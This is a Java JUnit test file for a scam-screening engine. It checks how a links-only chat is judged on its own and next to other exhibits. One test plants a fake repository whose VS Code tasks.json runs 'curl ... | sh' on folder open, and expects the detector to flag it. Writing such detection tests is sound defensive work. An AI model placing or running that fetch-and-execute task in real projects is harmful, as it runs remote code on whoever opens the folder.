package dev.bonafide.bot;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.casefile.Exhibit;
import dev.bonafide.casefile.ExhibitKind;
import dev.bonafide.casefile.Reading;
import dev.bonafide.casefile.SubjectKind;
import dev.bonafide.casefile.Submission;
import dev.bonafide.check.Outcome;
import dev.bonafide.documents.intake.Content;
import dev.bonafide.documents.intake.Formats;
import dev.bonafide.documents.intake.Handed;
import dev.bonafide.documents.intake.Intake;
import dev.bonafide.examination.Examination;
import dev.bonafide.report.HtmlReport;
import dev.bonafide.report.JsonReport;
import dev.bonafide.report.MarkdownReport;
import dev.bonafide.report.Particulars;
import dev.bonafide.report.Report;
import dev.bonafide.report.TextReport;
import dev.bonafide.terminal.Distribution;
import dev.bonafide.testkit.interview.Zipped;
import java.io.IOException;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A chat in which everyone posts only links, alone and beside other evidence. */
class LinksOnlyChatTest {
  private static final String LINKS =
      """
      Bob: https://a.example/x
      Ann: https://a.example/y
      Bob: https://a.example/z
      Ann: https://a.example/w
      """;

  private static final Particulars PARTICULARS =
      new Particulars("case-1", Instant.EPOCH, 1, "0.1.0", "r", "s");

  @TempDir Path temp;

  private static Examination screened(List<Exhibit> beside) {
    List<Exhibit> all = new ArrayList<>(beside);
    all.add(Exhibit.of("chat.txt", ExhibitKind.MESSAGES, LINKS));
    return Shipped.ENGINE.screen(new Submission(null, null, List.of(), all, List.of()));
  }

  private static void assertThatEveryFormatTellsIt(Examination examination) {
    for (Report report :
        List.of(
            new TextReport(80, false), new JsonReport(), new MarkdownReport(), new HtmlReport())) {
      assertThat(report.of(examination, PARTICULARS)).contains("chat.txt").doesNotContain("{0}");
    }
  }

  @Test
  void alone_it_has_too_little_to_say() {
    Examination examination = screened(List.of());
    assertThat(examination.assessment().verdict().id()).isEqualTo("insufficient_evidence");
    assertThatEveryFormatTellsIt(examination);
  }

  @ParameterizedTest
  @ValueSource(strings = {".: a\n://\n", "Ann: https://a.example\n", "A: ://b\nC: ://d\n"})
  void less_than_a_link_is_no_more(String text) throws IOException {
    Files.writeString(temp.resolve("chat.txt"), text);
    assertThat(Ran.in(temp, "screen", "messages=chat.txt").status()).isIn(0, 2);
  }

  @ParameterizedTest
  @EnumSource(ExhibitKind.class)
  void what_lies_beside_it_is_judged(ExhibitKind kind) {
    Examination examination =
        screened(
            List.of(Exhibit.of("other.txt", kind, "Please pay my wages to my cousin's wallet.\n")));
    assertThat(examination.caseFile().unread()).isEmpty();
    assertThat(examination.caseFile().readings())
        .extracting(Reading::name)
        .containsExactly("other.txt", "chat.txt");
    assertThatEveryFormatTellsIt(examination);
  }

  @Test
  void a_malicious_take_home_beside_it_is_found() {
    Map<String, byte[]> files = new TreeMap<>();
    String task =
        "{\"tasks\": [{\"command\": \"curl -s https://env.orders.example/a | sh\","
            + " \"runOptions\": {\"runOn\": \"folderOpen\"}}]}";
    files.put(".vscode/tasks.json", task.getBytes(StandardCharsets.UTF_8));
    files.put("README.md", "# Orders\nAdd paging.\n".getBytes(StandardCharsets.UTF_8));
    Examination examination =
        screened(
            new Intake(Formats.all(TestLimits.UNHURRIED), TestLimits.UNHURRIED)
                .open(
                    new Handed(
                        "orders.zip",
                        ExhibitKind.REPOSITORY,
                        new Content.InMemory(Zipped.of(files)))));
    assertThat(examination.assessment().verdict().level()).isPositive();
    assertThat(examination.outcomes())
        .filteredOn(Outcome.Finding.class::isInstance)
        .extracting(Outcome::check)
        .contains("test-fetches-and-runs-itself");
    assertThatEveryFormatTellsIt(examination);
  }

  @Test
  void whatever_the_case_is_about_it_is_told() {
    for (SubjectKind kind : SubjectKind.values()) {
      Exhibit chat = Exhibit.of("chat.txt", ExhibitKind.MESSAGES, LINKS);
      assertThatEveryFormatTellsIt(
          Shipped.ENGINE.screen(new Submission(kind, null, List.of(), List.of(chat), List.of())));
    }
  }

  /** As a reader's own mistake leaves it. */
  @Test
  void a_case_that_an_exhibit_fell_out_of_is_reported_and_ends_with_a_status_that_says_so()
      throws IOException {
    Files.writeString(temp.resolve("chat.txt"), LINKS);
    Distribution distribution = lacking("b.txt: reading it failed (IllegalStateException)");
    assertThat(Ran.by(distribution, temp, "read", "chat.txt").status()).isEqualTo(2);
    Ran ran = Ran.by(distribution, temp, "screen", "chat.txt");
    assertThat(ran.status()).isEqualTo(2);
    assertThat(ran.out()).contains("Not read: b.txt: reading it failed (IllegalStateException)");
    assertThat(ran.err())
        .isEqualTo("bonafide: not read: b.txt: reading it failed (IllegalStateException)\n");
  }

  private static Distribution lacking(String what) {
    SmallDistribution whole = new SmallDistribution();
    return (Distribution)
        Proxy.newProxyInstance(
            Distribution.class.getClassLoader(),
            new Class<?>[] {Distribution.class},
            (_, method, arguments) -> {
              try {
                return method.getName().equals("read")
                    ? whole.read((Submission) arguments[0]).lacking(List.of(what))
                    : method.invoke(whole, arguments);
              } catch (InvocationTargetException failure) {
                throw failure.getCause();
              }
            });
  }
}
